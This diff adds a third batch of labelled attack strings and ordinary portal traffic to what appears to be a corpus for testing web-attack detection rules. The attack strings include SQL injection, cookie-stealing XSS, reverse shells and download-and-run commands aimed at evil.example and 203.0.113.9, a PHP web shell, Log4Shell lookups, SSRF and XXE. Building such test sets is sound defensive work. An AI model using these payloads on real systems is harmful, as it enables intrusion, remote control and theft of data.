@@ -1618,3 +1618,277 @@ ref:https://www.google.com/search?q=%22select%22+t%E1%BB%89nh+th%C3%A0nh
 ref:https://dichvucong.example.gov.vn/dang-nhap?returnUrl=%2Fdvc%2Fho-so
 """),
 ]
+
+# Third batch, written after round two and measured before round three.
+ATTACKS += [
+("sqli", "batch 3: PostgreSQL casts and dollar quoting, MSSQL stacked queries, MySQL hex/char encodings, Oracle packages (vendor manuals)", r"""
+q:id=1::int
+q:id=1' AND 1=CAST(pg_read_file('/etc/passwd') AS int)--
+q:id=1';SELECT $$x$$||pg_sleep(5)--
+q:id=1 AND 1=(SELECT 1 FROM pg_stat_activity)
+q:id=1' AND (SELECT CHAR(113)+CHAR(118))='qv
+q:id=CHAR(0x61)+CHAR(0x64)
+q:id=1 AND UNHEX(HEX(user()))
+q:id=1 AND (SELECT * FROM (SELECT NAME_CONST(version(),1),NAME_CONST(version(),1))a)
+q:id=1'; WAITFOR DELAY '00:00:10';--
+q:id=1;exec('sel'+'ect 1')
+q:id=1 AND 1=dbms_xmlgen.getxml('select user from dual')
+q:id=1' AND 1=(SELECT UTL_HTTP.REQUEST('http://evil.example/'||user) FROM dual)--
+q:id=1 || (SELECT sqlite_version())
+q:id=1 AND 2>1
+q:user=admin' or 1#
+q:user=' OR 'x'='x'#
+q:pass=' or ''<'1
+q:id=1 RLIKE SLEEP(5)
+q:id=1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)
+q:id=1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)--
+q:id=1 INTO DUMPFILE '/tmp/x'
+q:id=1;SELECT LO_IMPORT('/etc/passwd')
+q:col=IF(1=1,name,price)
+q:sort=name;--
+ua:1' AND SLEEP(5)#
+ref:https://portal.example/?q=') UNION SELECT NULL,NULL--
+"""),
+("xss", "batch 3: HTML5 elements and handlers, SVG/MathML namespaces, data: and vbscript: URIs (WHATWG HTML, OWASP cheat sheet)", r"""
+q:q=<dialog open onclose=alert(1)>
+q:q=<form><button formaction=javascript:alert(1)>x
+q:q=<iframe src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>
+q:q=<img src=x onerror=import('//evil.example/x.js')>
+q:q=<svg><discard onbegin=alert(1)>
+q:q=<body onresize=alert(1)>
+q:q=<video poster=javascript:alert(1)//></video>
+q:q=<frameset onload=alert(1)>
+q:q=<script>location='//evil.example/?'+document.cookie</script>
+q:q=%3Csvg%20onload%3Dalert(1)%3E
+q:q="><svg/onload=confirm(1)>
+q:q=';alert(String.fromCharCode(88,83,83))//
+q:q=<img src=`x`onerror=alert(1)>
+q:q=<object data=javascript:alert(1)>
+q:q=<img src=x onerror=this.src='//evil.example/?'+document.cookie>
+q:q=<svg><style>@import'//evil.example/x'</style>
+q:q=&#60;script&#62;alert(1)&#60;/script&#62;
+q:q=<a href="vbscript:msgbox(1)">x</a>
+q:q=</textarea><script>alert(1)</script>
+q:q=<style>*{background:url('javascript:alert(1)')}</style>
+"""),
+("path-traversal", "batch 3: traversal in REST path segments and archive names (zip slip), Windows UNC and ADS forms", r"""
+p:/api/v1/files/..%2f..%2f..%2fetc%2fpasswd
+p:/api/v1/files/%2e%2e%2f%2e%2e%2fapp%2fconfig.json
+q:name=../../../../../../tmp/evil.sh
+q:archive_entry=../../../var/www/html/s.php
+q:file=\\?\C:\Windows\win.ini
+q:file=C:\inetpub\wwwroot\web.config::$DATA
+q:file=index.php::$DATA
+p:/static/..%252f..%252f..%252fetc/passwd
+p:/%2e%2e/%2e%2e/%2e%2e/%2e%2e/windows/win.ini
+q:file=file/../../../../etc/passwd
+"""),
+("command-injection", "batch 3: PowerShell cmdlets and switches (Microsoft Learn), bash process substitution and here-strings, busybox and IoT shells", r"""
+q:host=x;Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example/a')
+q:host=x|iex(iwr http://evil.example/a -UseBasicParsing)
+q:host=x&powershell -ExecutionPolicy Bypass -File \\203.0.113.9\s\a.ps1
+q:host=x&Start-Process calc.exe
+q:host=x|Get-ChildItem C:\Users -Recurse
+q:host=x;[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('aWQ='))
+q:host=x&powershell -w hidden -nop -c "IEX $env:x"
+q:host=x;cat <(id)
+q:host=x;bash -c "$(curl -fsSL evil.example/i.sh)"
+q:host=x;busybox wget http://203.0.113.9/b -O- | sh
+q:host=x;tftp -g -r b 203.0.113.9
+q:host=x;curl -d @/etc/passwd http://evil.example/
+q:host=x;ncat 203.0.113.9 4444 -e /bin/bash
+q:host=x;socat exec:'bash -li',pty,stderr tcp:203.0.113.9:4444
+q:host=x;openssl s_client -quiet -connect 203.0.113.9:443|/bin/sh
+q:host=x;telnet 203.0.113.9 23 | /bin/sh | telnet 203.0.113.9 24
+q:host=x;echo YmFzaCAtaQ==|base64 -d|bash
+q:host=x&&copy \\203.0.113.9\s\nc.exe %TEMP%\nc.exe
+q:host=x&rundll32.exe javascript:"\..\mshtml,RunHTMLApplication"
+q:host=x&mshta http://evil.example/a.hta
+q:host=x&regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll
+q:host=x&wmic process call create "cmd /c whoami"
+q:host=x&bitsadmin /transfer j http://evil.example/a.exe C:\a.exe
+q:host=x&reg query HKLM\SAM
+q:host=x;id>/tmp/o
+"""),
+("code-injection", "batch 3: PHP network and callback functions, Ruby/Perl evaluation, Java reflection (language manuals)", r"""
+q:x=fsockopen('203.0.113.9',4444)
+q:x=curl_exec(curl_init('http://evil.example/'))
+q:x=array_filter(array('id'),'system')
+q:x=register_shutdown_function('system','id')
+q:x=ob_start('system');echo 'id';
+q:x=$_SERVER['HTTP_X'](1)
+q:x=${$_GET['a']}
+q:x=<?php @eval($_POST['pass']);?>
+q:x=eval(gzinflate(base64_decode('S0zJT9ZQSFRIVqhRSFSoBgA=')))
+q:x=system($_GET['c'])
+q:x=Runtime.getRuntime().exec(new String[]{"sh","-c","id"})
+q:x=java.lang.Class.forName("java.lang.Runtime").getMethod("exec",String.class)
+q:x=ScriptEngineManager().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec('id')")
+q:x=eval(request.params.x)
+q:x=open("|id")
+q:x=`id`.to_s
+q:x=Object.const_get('Kernel').system('id')
+q:x=exec('import os;os.popen("id")')
+"""),
+("template-injection", "batch 3: Velocity, Pebble, Mako, Tornado and Razor syntax from their manuals", r"""
+q:name=#set($r=$x.class.forName('java.lang.Runtime'))$r.getRuntime().exec('id')
+q:name={% set x = 7*7 %}{{x}}
+q:name=${self.module.cache.util.os.system("id")}
+q:name={{handler.settings}}
+q:name=@System.IO.File.ReadAllText("C:\\windows\\win.ini")
+q:name={{ ''.__class__.__mro__[2].__subclasses__() }}
+q:name={{"".getClass().forName("java.lang.Runtime").getRuntime().exec("id")}}
+q:name=${__import__('os').popen('id').read()}
+"""),
+("log4shell", "batch 3: Log4j lookups in headers and paths", r"""
+ua:${jndi:ldap://evil.example/${env:HOSTNAME}}
+ref:${${lower:j}ndi:ldap://evil.example/r}
+pe:/api/${${::-j}ndi:rmi://evil.example/p}
+q:x=${${env:X:-j}${env:X:-n}di:ldap://evil.example/a}
+q:x=%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D
+"""),
+("ssrf", "batch 3: SSRF through URL parameters of image, PDF and webhook features (PortSwigger SSRF)", r"""
+q:img=http://169.254.169.254/latest/meta-data/
+q:pdf=http://127.0.0.1:8080/internal/report
+q:callback=http://[::1]/admin
+q:target=http://metadata/computeMetadata/v1/
+q:endpoint=http://192.168.10.5:9200/_cat/indices
+q:proxy=socks5://127.0.0.1:1080
+q:src=http://0x0a000001/
+q:uri=http://127.0.0.1:11211
+"""),
+("xxe", "batch 3: XXE through SVG, DOCX and SOAP parameters", r"""
+q:data=<?xml version="1.0"?><!DOCTYPE data [<!ENTITY file SYSTEM "file:///etc/hostname">]><data>&file;</data>
+q:svg=<?xml version="1.0" standalone="yes"?><!DOCTYPE test [ <!ENTITY xxe SYSTEM "file:///etc/hostname" > ]><svg>&xxe;</svg>
+q:xml=<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/evil.dtd"> %xxe;]>
+"""),
+("secret-backup-probe", "batch 3: framework and service files from their documentation (Symfony, Rails, Django, Spring Boot, Node)", r"""
+p:/app_dev.php/_profiler/
+p:/config/secrets.yml
+p:/settings.py
+p:/application.properties
+p:/application.yml
+p:/actuator/configprops
+p:/.env.backup
+p:/.env.example
+p:/server.js.map
+p:/.git/refs/heads/master
+p:/.svn/text-base/index.php.svn-base
+p:/WEB-INF/classes/application.properties
+p:/.well-known/../.env
+p:/api/swagger-ui.html
+p:/phpinfo
+p:/test.php
+p:/install.php
+p:/setup.php
+p:/admin/config.php
+p:/wp-config.bak
+"""),
+("scanner-ua", "batch 3: more tool User-Agents (Nikto variants, sqlmap with random agents disabled, scanners' default strings)", r"""
+ua:Mozilla/5.0 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)
+ua:sqlmap/1.6.12#stable (http://sqlmap.org)
+ua:Mozilla/5.0 (compatible; Nuclei)
+ua:gobuster/3.1.0
+ua:Mozilla/5.0 (X11; Linux x86_64) ZAP/2.14
+"""),
+("protocol-abuse", "batch 3: request-line anomalies (RFC 9112)", r"""
+m:GET /../../../../etc/passwd HTTP/1.1
+m:GET /index.html?a=%0d%0aX:%20y HTTP/1.1
+m:GET /%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.0
+m:POST /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1
+m:GET /?%00 HTTP/1.1
+"""),
+]
+BENIGN += [
+("odd-but-legit-3", "batch 3: more ordinary portal traffic (forms, APIs, static files, bots) that uses keywords and punctuation rules look for", r"""
+q:q=powershell get-childitem example
+q:q=how to set execution policy
+q:q=invoke web request vs curl
+q:q=bash vs zsh
+q:q=windows cmd dir command
+q:q=template engine jinja2
+q:q=log4j vulnerability 2021
+q:q=what is ${jndi}
+q:q=proto://
+q:q=xml doctype html
+q:q=<!DOCTYPE html>
+q:q=javascript: void(0)
+q:q=alert box css
+q:q=onload event
+q:q=script writer jobs
+q:q=select box html
+q:q=drop-down menu
+q:q=update 2026-12-07
+q:q=insert image in word
+q:q=backup files windows
+q:q=.env file example
+q:q=git config user name
+q:q=admin login problem
+q:q=phpmyadmin là gì
+q:q=web.config là gì
+q:q=etc.
+q:q=i/o error
+q:q=TCP/IP
+q:q=and/or
+q:q=AT&T
+q:q=@home
+q:q=#tag1 #tag2
+q:q=50% + 10%
+q:q=a & b | c
+q:q=1; 2; 3
+q:q=`code`
+q:q=$HOME
+q:q=~user
+q:q=*.pdf
+q:q=??
+q:q=!important
+q:q=[1,2,3]
+q:q={a:1}
+q:q=(1)
+q:q=<br>
+q:q=a--b
+q:q=it''s
+q:title=Thông báo: "Lịch tiếp công dân" (tháng 12/2026)
+q:desc=Giá 1.000.000đ; ưu đãi 10% -> còn 900.000đ
+q:addr=123/45 Lê Lợi, P. Bến Nghé, Q.1, TP.HCM
+q:search=ngày 01/01/2027 – 31/01/2027
+q:email=tran.thi.b+ho-so@example.com.vn
+q:phone=+84-28-3829-1234
+q:code=HS-2026/12/0001
+q:ref=CV số 123/UBND-VP
+q:redirect=/vi/dich-vu-cong
+q:next=%2Fho-so%3Fpage%3D2
+q:return_to=https://dichvucong.example.gov.vn/ho-so
+p:/api/v1/search?q=t%C3%AAn%20ng%C6%B0%E1%BB%9Di%20d%C3%B9ng&limit=10&offset=0
+p:/wp-admin/admin-ajax.php?action=heartbeat
+p:/wp-login.php?redirect_to=%2Fwp-admin%2F&reauth=1
+p:/index.php?option=com_users&view=login
+p:/xmlrpc.php?rsd
+p:/feed/
+p:/?s=th%E1%BB%A7+t%E1%BB%A5c
+p:/?p=123
+p:/?page_id=45&lang=en
+p:/en/search?q=visa+on+arrival
+p:/api/v1/documents/2026/12/07/123.pdf?download=1
+p:/portal/images/icons/pdf.svg
+p:/static/fonts/fa-solid-900.woff2?v=6.5.1
+m:GET /health HTTP/1.1
+m:GET /status HTTP/1.1
+m:GET /api/health/ready HTTP/2.0
+m:POST /api/v1/upload?filename=bao-cao.xlsx HTTP/1.1
+m:DELETE /api/v1/session HTTP/1.1
+ua:Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko
+ua:Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)
+ua:Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)
+ua:Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)
+ua:Googlebot-Image/1.0
+ua:Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36 (compatible; GoogleOther)
+ua:Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36
+ua:Lighthouse
+ua:node-fetch/1.0 (+https://github.com/bitinn/node-fetch)
+ua:Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36
+ref:https://www.google.com/url?q=https://portal.example.gov.vn/&sa=U
+ref:https://portal.example.gov.vn/search?q=%22union%22+c%C3%B4ng+%C4%91o%C3%A0n
+ref:https://www.facebook.com/groups/123/?ref=share&mibextid=abc
+"""),
+]
